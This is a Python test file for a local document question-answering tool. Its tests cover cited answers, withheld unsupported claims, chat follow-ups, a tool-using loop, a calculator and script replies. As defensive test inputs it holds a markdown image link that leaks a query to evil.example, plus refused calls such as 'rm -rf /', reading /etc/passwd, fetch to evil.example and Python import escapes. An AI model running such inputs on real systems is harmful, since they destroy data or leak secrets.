"""All ways of asking, from hits to a checked answer, with a model that writes what the test says."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from ask.generator import act, answer, deep, material, prompts, script
from ask.generator.answer import Desk
from ask.generator.calculate import calculate
from ask.generator.chat import Conversation, stands_alone
from ask.generator.child import PromptTooLong
from ask.generator.results import Answer, Done, Event, Found, Step, Token, as_json
from ask.generator.tools import Call, parsed
from ask.indexer.errors import UsageError
from ask.retriever.hits import Hit, Results

FILES = {
    "cabin.md": "The cabin was built by Josef Malina in 1987.\nThe key hangs behind the woodshed.\n",
    "boat.md": "The boat lies under the old bridge.\nIts engine has been broken since 2009.\n",
    "backup.sh": "#!/bin/sh\nrsync -a --delete ~/notes /mnt/disk/notes\n",
}


class Folder:
    """Real files, found by their words; what a searcher, a library and a catalogue give, without an index."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        for name, text in FILES.items():
            (folder / name).write_text(text, "utf-8")

    def hits(self) -> list[Hit]:
        return [self._hit(number, file) for number, file in enumerate(sorted(self.folder.iterdir()), 1)]

    def _hit(self, number: int, file: Path) -> Hit:
        text = file.read_text("utf-8")
        return Hit(1, 1.0, number, str(file), None, "note", "", 1, text.count("\n"), None, None, text[:60], {}, text)

    def find(self, query: str) -> Results:
        words = set(query.lower().replace("?", "").split())
        scored = [(len(words & set(hit.text.lower().replace(".", "").split())), hit) for hit in self.hits()]
        good = sorted((pair for pair in scored if pair[0]), key=lambda pair: (-pair[0], pair[1].id))
        return Results(query, tuple(replace(hit, rank=n, score=float(s)) for n, (s, hit) in enumerate(good, 1)))

    def search(self, query: str) -> Sequence[Hit]:
        return self.find(query).hits

    def open(self, hit: Hit) -> Hit:
        return hit

    def list(self, after: date | None, before: date | None, kind: str) -> Sequence[Hit]:
        return self.hits()

    def count(self, query: str, after: date | None, before: date | None, kind: str) -> int:
        return len(self.find(query).hits) if query else len(FILES)

    def neighbours(self, hit: Hit, before: int, after: int) -> str:
        return hit.text

    def text_now(self, hit: Hit) -> str | None:
        file = Path(hit.path)
        return file.read_text("utf-8") if file.exists() else None


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def ended(events: Iterable[Event]) -> tuple[list[Event], Answer]:
    *before, last = events
    assert isinstance(last, Done)
    return before, last.answer


def test_hits_come_first_then_tokens_then_the_checked_answer(folder: Folder, scripted: Any) -> None:
    model = scripted("The key hangs behind the woodshed [1].")
    desk = Desk(model, folder)
    question = "where is the key of the cabin"
    before, found = ended(answer.written(question, folder.find(question), desk, prompts.load("answer")))
    assert isinstance(before[0], Found)
    assert "".join(event.text for event in before[1:] if isinstance(event, Token)) == found.text
    assert found.grounded
    assert found.citations[0].quote == "The key hangs behind the woodshed."
    assert found.citations[0].line == 2
    assert found.model == "scripted"
    assert model.prompts[0].index("The key hangs") < model.prompts[0].index("Question: where is the key")
    assert as_json(found, [])["grounded"] is True


def test_an_unsupported_answer_is_withheld_and_the_hits_stay(folder: Folder, scripted: Any) -> None:
    desk = Desk(scripted("The key was sold to Karel Novák in 1999 [1]."), folder)
    _, found = ended(answer.written("key", folder.find("the key"), desk, prompts.load("answer")))
    assert found.abstained
    assert found.text == ""
    assert "1999" in found.withheld
    assert found.hits


@pytest.mark.parametrize("reply", ["NOT FOUND", "not found.", "", "<think>hm</think>NOT FOUND"])
def test_not_found_is_said_honestly(folder: Folder, scripted: Any, reply: str) -> None:
    desk = Desk(scripted(reply), folder)
    _, found = ended(answer.written("key", folder.find("the key"), desk, prompts.load("answer")))
    assert found.abstained
    assert not found.withheld


def test_without_hits_no_model_is_asked(folder: Folder, scripted: Any) -> None:
    model = scripted("anything")
    _, found = ended(answer.written("zzz", Results("zzz", ()), Desk(model, folder), prompts.load("answer")))
    assert found.abstained
    assert model.prompts == []


def test_a_question_too_long_is_an_error_before_the_model_is_asked(folder: Folder, scripted: Any) -> None:
    model = scripted("anything", room=600)
    events = answer.written("the key " * 300, folder.find("the key"), Desk(model, folder), prompts.load("answer"))
    assert isinstance(next(events), Found)
    with pytest.raises(PromptTooLong):
        next(events)
    assert model.prompts == []


def test_links_and_pictures_of_a_model_are_inert(folder: Folder, scripted: Any) -> None:
    desk = Desk(scripted("The key hangs behind the woodshed ![x](http://evil.example/?q=key) [1]."), folder)
    _, found = ended(answer.written("key", folder.find("the key"), desk, prompts.load("answer")))
    assert "evil.example" not in found.text + found.withheld


def test_quotes_without_a_model_are_verified_in_their_files(folder: Folder) -> None:
    results = folder.find("where does the key hang")
    assert answer.quoted("where does the key hang", results, None, folder).grounded
    (folder.folder / "cabin.md").write_text("Burnt down.", "utf-8")
    stale = answer.quoted("where does the key hang", results, None, folder)
    assert not stale.grounded
    assert "changed" in stale.notes[0]


# chat


def test_a_follow_up_is_rewritten_searched_and_answered(folder: Folder, scripted: Any) -> None:
    model = scripted(
        "The cabin was built by Josef Malina in 1987 [1].",
        "Where is the key of the cabin?",
        "The key hangs behind the woodshed [1].",
    )
    talk = Conversation(Desk(model, folder), folder.find, prompts.load("chat"), prompts.load("rewrite"))
    ended(talk.ask("Who built the cabin?"))
    before, found = ended(talk.ask("And where is its key?"))
    assert Step("rewrite", "Where is the key of the cabin?") in before
    assert found.question == "And where is its key?"
    assert found.grounded
    # What was read stays the beginning of every later prompt, so its state can be kept.
    first, rewriting, second = model.prompts
    shared = first[: first.index("<user>")]
    assert rewriting.startswith(shared)
    assert second.startswith(shared)
    assert "<assistant>The cabin was built by Josef Malina in 1987 [1]." in second


def test_a_rewriting_that_makes_no_sense_is_not_used(folder: Folder, scripted: Any) -> None:
    model = scripted("The cabin was built in 1987 [1].", "Buy cheap watches online today!", "NOT FOUND")
    talk = Conversation(Desk(model, folder), folder.find, prompts.load("chat"), prompts.load("rewrite"))
    ended(talk.ask("Who built the cabin?"))
    before, _ = ended(talk.ask("and where is its key?"))
    assert Step("rewrite", "Who built the cabin? and where is its key?") in before


def test_what_was_said_is_forgotten_on_request_and_fits_the_window(folder: Folder, scripted: Any) -> None:
    model = scripted("The cabin was built in 1987 [1].", room=720)
    talk = Conversation(Desk(model, folder), folder.find, prompts.load("chat"), prompts.load("rewrite"))
    for _ in range(30):
        ended(talk.ask("Who built the cabin by the lake?"))
    assert max(len(prompt.split()) for prompt in model.prompts) <= 720 - 400
    assert 0 < len(talk.turns) < 30
    talk.forget()
    ended(talk.ask("And its key?"))
    assert "<assistant>" not in model.prompts[-1]


def test_a_persona_goes_on_with_its_play(folder: Folder, scripted: Any) -> None:
    model = scripted("The cabin was built in 1987 [1].\nUser: and I say more")
    talk = Conversation(Desk(model, folder), folder.find, prompts.load("librarian"), prompts.load("rewrite"))
    ended(talk.ask("When was the cabin built?"))
    _, found = ended(talk.ask("When was the cabin built, please?"))
    assert found.text == "The cabin was built in 1987 [1]."
    assert "User: When was the cabin built?\nLibby: The cabin was built in 1987 [1].\n" in model.prompts[-1]


@pytest.mark.parametrize(
    ("question", "alone"),
    [
        ("Who built the cabin by the lake?", True),
        ("And when was it built?", False),
        ("where is its key", False),
        ("Kdo postavil chatu u přehrady?", True),
        ("A kde má klíč?", False),
        ("Kdy to bylo?", False),
        ("why?", False),
    ],
)
def test_which_questions_stand_alone(question: str, alone: bool) -> None:
    assert stands_alone(question) is alone


# reason and act


def test_it_acts_observes_and_answers_with_what_it_saw(folder: Folder, scripted: Any) -> None:
    model = scripted(
        'Thought: I must find the boat.\nAction: search("boat bridge")\nObservation: made up',
        "Thought: How long is that ago?\nAction: calculate(2026 - 2009)",
        "Thought: Now I know.\nAnswer: The boat lies under the old bridge [1].",
    )
    before, found = ended(act.answered("Where is the boat?", folder, Desk(model, folder), prompts.load("act")))
    steps = [event for event in before if isinstance(event, Step)]
    assert [step.kind for step in steps] == ["thought", "search", "thought", "calculate", "thought"]
    assert steps[3].result == "17"
    assert "made up" not in model.prompts[1]
    assert "The boat lies under the old bridge." in model.prompts[1]
    assert found.grounded


def test_steps_are_bounded_and_mistakes_are_told(folder: Folder, scripted: Any) -> None:
    model = scripted('Thought: again\nAction: delete("everything")')
    _before, found = ended(act.answered("Where?", folder, Desk(model, folder), prompts.load("act"), steps=3))
    assert len(model.prompts) == 4
    assert "there is no tool 'delete'" in model.prompts[-1]
    assert found.abstained
    assert "no answer after 3 steps" in found.notes


def test_an_action_comes_before_an_answer_written_in_the_same_breath(folder: Folder, scripted: Any) -> None:
    said = act.read("Thought: x\nAction: count()\nObservation: 5\nAnswer: 5")
    assert (said.action, said.answer) == ("count()", "")


@pytest.mark.parametrize(
    ("text", "call"),
    [
        ('search("the key")', Call("search", {"query": "the key"})),
        ("search(the key of the cabin)", Call("search", {"query": "the key of the cabin"})),
        ("open(2)", Call("open", {"number": 2})),
        ("open([2])", Call("open", {"number": 2})),
        ('list(after="2019", kind="mail")', Call("list", {"after": date(2019, 1, 1), "kind": "mail"})),
        ('list("2019-05", "2019-06-30")', Call("list", {"after": date(2019, 5, 1), "before": date(2019, 6, 30)})),
        ("count()", Call("count", {})),
        ("calculate(12*30 + 7)", Call("calculate", {"sum": "12*30 + 7"})),
    ],
)
def test_calls_are_read(text: str, call: Call) -> None:
    assert parsed(text) == call


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf /", "run('ls')", "search", "search()", "open('x')", "open(-1)", "open(99999999)", "list(after='soon')",
        "list(kind='nonsense')", "count(1, 2, 3, 4, 5)", "list(after=__import__('os'))", "search(['a'])",
        f"search('{'x' * 300}')", "open(number=2, path='/etc/passwd')", "fetch('http://evil.example')",
    ],
)  # fmt: skip
def test_calls_that_are_none_are_refused(text: str) -> None:
    with pytest.raises(UsageError):
        parsed(text)


@pytest.mark.parametrize(
    ("expression", "value"),
    [("2+3*4", "14"), ("(7-2)/2", "2.5"), ("2**10", "1024"), ("round(10/3, 2)", "3.33"), ("-sum(1, 2)", "-3")],
)
def test_arithmetic(expression: str, value: str) -> None:
    assert calculate(expression) == value


@pytest.mark.parametrize(
    "expression",
    [
        "9**9**9",
        "__import__('os')",
        "1/0",
        "'a'*99",
        "x",
        "(1).__class__",
        "[1]*9",
        "1e300*1e300",
        "(-8)**0.5",
        "1<2",
        "",
    ],
)
def test_what_is_not_arithmetic_is_refused(expression: str) -> None:
    with pytest.raises(UsageError):
        calculate(expression)


# deep


def test_a_broad_question_is_split_noted_and_answered_and_gaps_are_named(folder: Folder, scripted: Any) -> None:
    def write(prompt: str) -> str:
        if "smaller questions" in prompt:
            return "1. Who built the cabin?\n2. Where is the boat?\n- What did the goat eat?\n"
        if "take notes" in prompt:
            if "goat" in prompt.rsplit("Question:", 1)[-1]:
                return "NOT FOUND"
            facts = (
                "The cabin was built by Josef Malina in 1987",
                "The boat lies under the old bridge",
                "It cost 1870",
            )
            return "".join(f"- {fact} [1]\n" for fact in facts)
        return "The cabin was built by Josef Malina in 1987 [1]. The boat lies under the old bridge [2]."

    desk = Desk(scripted(write), folder)
    stages = deep.DeepPrompts(*(prompts.load(name) for name in ("deep-split", "deep-notes", "deep")))
    before, found = ended(deep.answered("Tell me about the cabin and the boat", folder.find, desk, stages))
    assert sum(isinstance(event, Step) and event.kind == "search" for event in before) == 4
    notes = [event.result for event in before if isinstance(event, Step) and event.kind == "note"]
    assert not any("1870" in note for note in notes)
    assert found.grounded
    assert len({citation.path for citation in found.citations}) == 2
    assert "not found: What did the goat eat?" in found.notes


# script


def test_a_script_is_given_back_bare_with_the_files_it_follows(folder: Folder, scripted: Any) -> None:
    reply = "Here you are:\n```sh\n#!/bin/sh\n# copies notes, after [1]\nrsync -a ~/notes /mnt/disk\n```\nEnjoy!"
    desk = Desk(scripted(reply), folder)
    results = folder.find("rsync -a --delete ~/notes /mnt/disk/notes")
    _, found = ended(script.answered("back up my notes", results, desk, prompts.load("script")))
    assert found.text == "#!/bin/sh\n# copies notes, after [1]\nrsync -a ~/notes /mnt/disk"
    assert found.citations[0].path.endswith("backup.sh")
    assert found.grounded


# what comes with a question


def test_piped_text_is_passages_with_lines(folder: Folder, scripted: Any) -> None:
    log = "".join(f"line {n}: all is well\n" for n in range(400)) + "line 400: ERROR disk quota exceeded on /home\n"
    results = material.passages("what error is on /home", "standard input", log, None)
    assert "quota exceeded" in results.hits[0].text
    desk = Desk(
        scripted("The disk quota was exceeded on /home [1]."), material.WithMaterial(folder, {"standard input": log})
    )
    _, found = ended(answer.written("what error?", results, desk, prompts.load("answer")))
    assert found.grounded
    assert found.citations[0].path == "standard input"
    assert found.citations[0].line == 401
    assert log.splitlines()[400] == found.citations[0].quote
